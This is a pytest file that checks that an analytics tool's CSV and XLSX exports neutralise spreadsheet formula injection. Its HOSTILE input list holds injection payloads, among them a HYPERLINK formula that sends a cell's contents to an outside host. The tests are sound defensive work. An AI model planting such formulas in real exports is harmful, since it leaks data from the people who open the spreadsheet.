"""CSV exports never carry a live spreadsheet formula (OWASP CSV injection); numbers stay."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import polars as pl
from openpyxl import load_workbook

from analytics.exports import csv_bytes, xlsx_bytes
from tests.conftest import REPO
from tests.views import hostile

HOSTILE = [
    '=HYPERLINK("http://x/?d="&A2,"")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "กรมควบคุมโรค",
    "a=b",
    None,
]


def rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def test_formula_cells_are_prefixed_and_numbers_kept() -> None:
    frame = pl.DataFrame(
        {"title": HOSTILE, "downloads": [-5, 1, 2, 3, 4, 5, 6, 7, 8], "share": [-0.5] * 9}
    )
    table = rows(csv_bytes(frame))
    assert table[0] == ["title", "downloads", "share"]
    assert [r[0] for r in table[1:]] == [
        '\'=HYPERLINK("http://x/?d="&A2,"")',
        "'+1+1",
        "'-2+3",
        "'@SUM(A1:A2)",
        "'\t=1+1",
        "'\r=1+1",
        "กรมควบคุมโรค",
        "a=b",
        "",
    ]
    assert [r[1] for r in table[1:3]] == ["-5", "1"] and table[1][2] == "-0.5"


def test_xlsx_keeps_such_titles_as_text() -> None:
    frame = pl.DataFrame({"title": HOSTILE[:4], "downloads": [1, 2, 3, 4]})
    sheet = load_workbook(io.BytesIO(xlsx_bytes(frame))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in cells] == ["s"] * 4  # strings, not formulas
    assert [c.value for c in cells] == HOSTILE[:4]


def test_analytics_cli_csv_is_neutralised(tmp_path: Path) -> None:
    db = hostile.load(tmp_path / "site.duckdb", tmp_path, "http://127.0.0.1:9/t")
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "analytics",
            "rankings",
            "--db",
            str(db),
            "--level",
            "dataset",
            "--fiscal-year",
            "2566",
            "--format",
            "csv",
        ],
        cwd=REPO,
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    table = list(csv.DictReader(io.StringIO(proc.stdout)))
    (covid,) = [r for r in table if r["title"].startswith("'")]
    assert covid["title"] == "'" + hostile.dataset_title("http://127.0.0.1:9/t")
    assert covid["unique_requests"] == "3"
    assert not any(r["title"].startswith(("=", "+", "-", "@")) for r in table)
